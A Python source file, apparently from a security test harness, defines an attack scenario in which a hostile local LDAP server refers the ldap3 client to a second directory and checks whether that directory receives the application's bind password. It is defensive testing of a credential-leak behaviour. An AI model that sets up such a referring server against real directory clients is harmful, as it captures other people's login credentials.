"""C9: a directory refers the client to another one. The client logs in there with the same password."""

from typing import Any

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.ldap import BASE, LDAP
from backwatch.attack.protocols.server import LOOPBACK, HostileServer
from backwatch.attack.scenarios import SECRET, Scenario


class _Referring(LDAP):
    def __init__(self, authority: Authority) -> None:
        super().__init__(authority)
        self.elsewhere = LDAP(authority, at_once=True)
        self.elsewhere.taken = self.elsewhere.kept.append
        self.referral = b"ldaps://%s:%d/%s" % (LOOPBACK.encode(), self.elsewhere.port, BASE)

    def start(self) -> None:
        self.elsewhere.start()
        super().start()

    def stop(self) -> None:
        super().stop()
        self.elsewhere.stop()


class LdapReferral(Scenario):
    """ldap3 follows referrals to any host with the app's own login, unless configured otherwise."""

    code = "C9"
    attack = "refers the app to another directory, which is sent the password"
    reference = "https://datatracker.ietf.org/doc/html/rfc4511#section-4.1.10; ATT&CK T1557"
    driver = "ldap3"
    rule = "redirected"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return a directory that refers to another one."""
        return _Referring(authority)

    def work(self) -> None:
        """Look up a customer."""
        self.meet()

    def meet(self) -> object:
        """Repeat the work once the server is hostile."""
        import ssl

        import ldap3

        tls = ldap3.Tls(validate=ssl.CERT_REQUIRED, ca_certs_file=self.config.ca_file)
        server = ldap3.Server("localhost", port=self.config.port, tls=tls, get_info=ldap3.NONE, connect_timeout=5)
        connection: Any = ldap3.Connection(
            server, f"cn=shop,{BASE.decode()}", SECRET, auto_bind=ldap3.AUTO_BIND_TLS_BEFORE_BIND, receive_timeout=5
        )
        try:
            connection.search(BASE.decode(), "(uid=ann)", attributes=["mail"])
            return [str(entry.mail) for entry in connection.entries]
        finally:
            connection.unbind()

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the other directory received the password."""
        del got
        assert isinstance(service, _Referring)
        return any(SECRET.encode() in data for data in service.elsewhere.kept)
